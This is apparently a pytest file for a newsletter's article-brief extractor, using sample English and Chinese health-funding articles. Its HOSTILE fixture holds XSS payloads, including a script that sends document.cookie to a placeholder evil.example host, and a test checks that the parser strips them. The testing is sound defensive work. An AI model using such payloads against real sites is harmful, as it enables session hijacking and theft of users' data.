"""newsletter.domain.editorial.brief: core insights and themed groups of points, each a sentence
of the article citing its paragraph (hand-made articles; the real feeds are in
tests/feeds/test_corpus_parse.py)."""

from __future__ import annotations

import re

import pytest

from newsletter.domain.editorial.brief import (
    MAX_GROUP_POINTS,
    MAX_GROUPS,
    MAX_INSIGHTS,
    MAX_TEXT_CHARS,
    Brief,
    brief,
    heading_label,
    is_point,
)
from newsletter.domain.paragraphs import TextBlock, body_paragraphs, html_blocks
from newsletter.domain.text import summary_repeats_title

EN_TITLE = "Acme Health raises $25 million for remote heart monitoring"
EN_SECTIONS = [
    (
        None,
        [
            "Acme Health raised $25 million in a Series A round led by Foo Ventures on Monday. "
            "The company builds remote monitoring software for heart failure patients.",
        ],
    ),
    (
        "The funding",
        [
            "The new funding will be used to expand the remote monitoring platform to 50 "
            "hospitals. Acme Health also plans to hire 40 engineers and clinicians next year.",
            "Foo Ventures partner Jane Doe will join the Acme Health board of directors. Acme "
            "Health previously raised a $5 million seed round in 2022.",
        ],
    ),
    (
        "The market",
        [
            "Heart failure affects more than six million adults in the United States. Remote "
            "monitoring can cut readmissions for heart failure patients by a quarter.",
            "Hospitals pay penalties under Medicare rules when heart failure patients return "
            "within thirty days. Those penalties make remote monitoring attractive to hospitals.",
        ],
    ),
    (
        "What comes next",
        [
            "Acme Health expects to publish results from a randomized trial in 2027. The trial "
            "compares remote monitoring with usual care in 1,200 heart failure patients.",
        ],
    ),
]

ZH_TITLE = "合源医疗完成近亿元A轮融资"
ZH_SECTIONS = [
    (
        None,
        [
            "合源医疗宣布完成近亿元A轮融资，本轮由远澜投资领投。公司专注于县域医共体的远程心电监测服务。"
        ],
    ),
    (
        "一、融资用途",
        [
            "本轮融资将用于远程心电监测产品的研发和县域市场的拓展。公司计划明年覆盖全国300家县级医院。"
            "新资金还将用于扩充研发团队。"
        ],
    ),
    (
        "二、市场空间",
        [
            "据统计，我国心血管病患者约3.3亿人。远程心电监测可以显著提升基层医院的诊断能力。"
            "县域医疗市场的心电诊断需求仍未被满足。"
        ],
    ),
    (
        "三、投资方观点",
        [
            "远澜投资合伙人表示，县域医疗市场是未来十年最重要的增长点之一。这一判断得到多位专家认同。"
            "合源医疗此前曾获得数千万元天使轮融资，投资方为星桥天使。"
        ],
    ),
    (
        "四、竞争格局",
        [
            "目前国内从事远程心电监测的企业超过30家，大多集中在城市三甲医院市场。"
            "县级医院的心电诊断能力不足，是合源医疗选择县域市场的主要原因。"
            "业内人士认为，能否与县级医院建立长期合作，将决定远程心电监测企业的竞争力。"
        ],
    ),
]


def html_of(sections: list[tuple[str | None, list[str]]], *, headings: bool = True) -> str:
    parts = []
    for heading, paragraphs in sections:
        if heading and headings:
            parts.append(f"<h2>{heading}</h2>")
        parts.extend(f"<p>{p}</p>" for p in paragraphs)
    return "".join(parts)


def check_brief(found: Brief | None, blocks: list[TextBlock], title: str) -> Brief:
    """Every point is a sentence of the paragraph it cites, never the title, shown once; two
    or three insights, at least two groups, in article order."""
    assert found is not None
    paragraphs = body_paragraphs(blocks)
    points = [*found.insights, *(p for g in found.groups for p in g.points)]
    for point in points:
        text = point.text.removesuffix("…")
        assert text and text in paragraphs[point.paragraph - 1], point
        assert not summary_repeats_title(point.text, title)
    assert len({p.text for p in points}) == len(points)
    assert 2 <= len(found.insights) <= MAX_INSIGHTS
    assert 2 <= len(found.groups) <= MAX_GROUPS
    for group in found.groups:
        assert group.heading.strip()
        assert 1 <= len(group.points) <= MAX_GROUP_POINTS
        numbers = [p.paragraph for p in group.points]
        assert numbers == sorted(numbers)
    numbers = [p.paragraph for p in found.insights]
    assert numbers == sorted(numbers) and len(set(numbers)) == len(numbers)
    return found


@pytest.mark.parametrize(
    ("sections", "lang", "title"), [(EN_SECTIONS, "en", EN_TITLE), (ZH_SECTIONS, "zh", ZH_TITLE)]
)
def test_groups_follow_the_articles_subheadings(
    sections: list[tuple[str | None, list[str]]], lang: str, title: str
) -> None:
    blocks = html_blocks(html_of(sections))
    found = check_brief(brief(blocks, lang, title=title), blocks, title)
    assert all(g.source == "subheading" for g in found.groups)
    headings = [h for h, _ in sections if h]
    assert [g.heading for g in found.groups] == [
        h for h in headings if h in {g.heading for g in found.groups}
    ]  # article order
    # each point sits under the subheading of its own paragraph
    paragraphs_of = {}
    number = 0
    for heading, paragraphs in sections:
        for _ in paragraphs:
            number += 1
            paragraphs_of[number] = heading
    for group in found.groups:
        assert {paragraphs_of[p.paragraph] for p in group.points} == {group.heading}


def test_bold_lines_are_subheadings_in_chinese() -> None:
    """WeChat-style articles mark their sections with a bold line, not <h2>."""
    html = html_of(ZH_SECTIONS).replace("<h2>", "<p><strong>").replace("</h2>", "</strong></p>")
    blocks = html_blocks(html)
    found = check_brief(brief(blocks, "zh", title=ZH_TITLE), blocks, ZH_TITLE)
    assert [g.heading for g in found.groups] == [h for h, _ in ZH_SECTIONS if h]


@pytest.mark.parametrize(
    ("sections", "lang", "title"), [(EN_SECTIONS, "en", EN_TITLE), (ZH_SECTIONS, "zh", ZH_TITLE)]
)
def test_without_subheadings_groups_are_themes_the_sentences_share(
    sections: list[tuple[str | None, list[str]]], lang: str, title: str
) -> None:
    blocks = html_blocks(html_of(sections, headings=False))
    assert not [b for b in blocks if b.kind == "heading"]
    found = check_brief(brief(blocks, lang, title=title), blocks, title)
    for group in found.groups:
        assert group.source == "theme"
        # the heading is a term of the article, found in each of its points
        stem = group.heading.lower().removesuffix("s")
        assert all(stem in p.text.lower() for p in group.points), group
        assert len(group.points) >= 2


def test_no_theme_is_the_title_subject() -> None:
    blocks = html_blocks(html_of(EN_SECTIONS, headings=False))
    found = brief(blocks, "en", title=EN_TITLE)
    assert found is not None
    title_words = {w.lower() for w in re.findall(r"[A-Za-z]+", EN_TITLE)}
    assert all(g.heading.lower() not in title_words for g in found.groups)


def test_deterministic() -> None:
    blocks = html_blocks(html_of(EN_SECTIONS, headings=False))
    assert brief(blocks, "en", title=EN_TITLE) == brief(list(blocks), "en", title=EN_TITLE)


def test_a_huge_article_is_read_from_its_start_only() -> None:
    """The work grows with the text, so a brief reads the first MAX_TEXT_CHARS characters: no
    point cites a paragraph past them, however long the page."""
    blocks = html_blocks(html_of(EN_SECTIONS, headings=False))
    filler = [
        TextBlock(f"Paragraph {n} repeats filler words about hospital pricing data.")
        for n in range(20_000)
    ]
    found = brief([*blocks, *filler], "en", title=EN_TITLE)
    assert found is not None
    limit, read = 0, 0
    for block in [*blocks, *filler]:
        read += len(block.text)
        if read > MAX_TEXT_CHARS:
            break
        limit += block.kind != "heading"
    cited = [p.paragraph for p in found.insights] + [
        p.paragraph for g in found.groups for p in g.points
    ]
    assert cited and max(cited) <= limit


def test_short_body_gets_none() -> None:
    short = html_of(EN_SECTIONS[:2])  # three paragraphs, six sentences
    assert brief(html_blocks(short), "en", title=EN_TITLE) is None
    one = "<p>" + " ".join(p for _, ps in EN_SECTIONS for p in ps) + "</p>"  # one paragraph
    assert brief(html_blocks(one), "en", title=EN_TITLE) is None


def test_title_only_items_get_none() -> None:
    # A WeChat bridge item: content:encoded repeats the title, nothing else.
    title = "重磅！国家医保局发布2021年医保目录调整方案，罕见病用药迎来利好"
    assert brief(html_blocks(f"<p>{title}</p>"), "zh", title=title) is None
    assert brief([TextBlock(title)] * 12, "zh", title=title) is None
    assert brief([], "en", title=title) is None


def test_a_list_of_links_is_no_article() -> None:
    """Show notes and tables of contents have many lines but no prose: no brief."""
    lines = [
        f"<li>Episode topic number {i} about the latest laptops and phones</li>" for i in range(30)
    ]
    html = "<p>Sponsored by Acme.</p><ul>" + "".join(lines) + "</ul>"
    assert brief(html_blocks(html), "en", title="Episode 311") is None


def test_back_matter_gives_no_points() -> None:
    sections = [
        *EN_SECTIONS,
        (
            "References",
            ["Doe J. Remote monitoring of heart failure patients. Journal of Cardiology, 2020."]
            * 3,
        ),
    ]
    blocks = html_blocks(html_of(sections))
    found = brief(blocks, "en", title=EN_TITLE)
    assert found is not None
    texts = [p.text for g in found.groups for p in g.points] + [p.text for p in found.insights]
    assert not any("Journal of Cardiology" in t for t in texts)
    assert "References" not in [g.heading for g in found.groups]


HOSTILE = (
    '<h2 onclick="alert(1)">Funding<script>alert("h")</script></h2>'
    "<p>Acme Health raised $25 million in a Series A round led by Foo Ventures on Monday.<script>"
    "document.location='https://evil.example/'+document.cookie</script> The company builds remote"
    " monitoring software for heart failure patients.</p>"
    '<p><img src=x onerror="alert(2)">The new funding will be used to expand the remote monitoring'
    " platform to 50 hospitals. Acme Health also plans to hire 40 engineers and clinicians.</p>"
    "<h2>Market \ue002\ue000forged</h2>"
    "<p>Heart failure affects more than six million adults in the United States. Remote monitoring "
    "can cut readmissions for heart failure patients by a quarter.</p>"
    '<p><a href="javascript:alert(3)">Hospitals pay penalties</a> under Medicare rules when heart '
    "failure patients return within thirty days. Those penalties make remote monitoring "
    "attractive to hospitals. The %%UNSUBSCRIBE_URL%% marker is plain text here.</p>"
    "<h2>&lt;b&gt;Next&lt;/b&gt;</h2>"
    "<p>Acme Health expects to publish results from a randomized trial in 2027. The trial compares"
    " remote monitoring with usual care in 1,200 heart failure patients.</p>"
    "<style>p { display: none }</style>"
)


def test_hostile_html_gives_plain_text_only() -> None:
    blocks = html_blocks(HOSTILE)
    found = check_brief(brief(blocks, "en", title=EN_TITLE), blocks, EN_TITLE)
    texts = [p.text for p in found.insights] + [
        t for g in found.groups for t in (g.heading, *(p.text for p in g.points))
    ]
    for text in texts:
        assert "alert" not in text and "script" not in text and "cookie" not in text
        assert "display" not in text and "javascript" not in text
        assert not re.search("[\ue000-\uf8ff]", text)  # no private-use marker survives
    # markup written as text stays text (the templates escape it)
    assert "<b>Next</b>" in [g.heading for g in found.groups]


@pytest.mark.parametrize(
    ("line", "label"),
    [
        ("Key findings:", "Key findings"),
        ("二、市场空间", "二、市场空间"),
        ("— Josh Marshall (@joshtpm) November 8, 2017", None),
        ("8.04pm GMT", None),
        ("13 min:", None),
        ("https://t.co/BAwgd5VZEY pic.twitter.com/tCdMxZX78i", None),
        ("Growing your own food might not be a good decision for you.", None),
        ("A" * 81, None),
        ("", None),
    ],
)
def test_heading_label(line: str, label: str | None) -> None:
    assert heading_label(line) == label


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("The trial compares remote monitoring with usual care in 1,200 patients.", True),
        ("远程心电监测可以显著提升基层医院的诊断能力。", True),
        ("That's where NSOperationQueue comes in:", False),
        ("enum NSQualityOfService : Int { case UserInteractive case UserInitiated }", False),
        ("— Judd Legum (@JuddLegum) November 8, 2017", False),
        ("Read the whole thing at https://example.com/a-long-story-about-it", False),
        ("Too short.", False),
    ],
)
def test_is_point(sentence: str, expected: bool) -> None:
    assert is_point(sentence, "zh" if re.search("[\u4e00-\u9fff]", sentence) else "en") is expected


def test_json_form_round_trips() -> None:
    blocks = html_blocks(html_of(ZH_SECTIONS))
    found = brief(blocks, "zh", title=ZH_TITLE)
    assert found is not None
    assert Brief.from_dict(found.to_dict()) == found
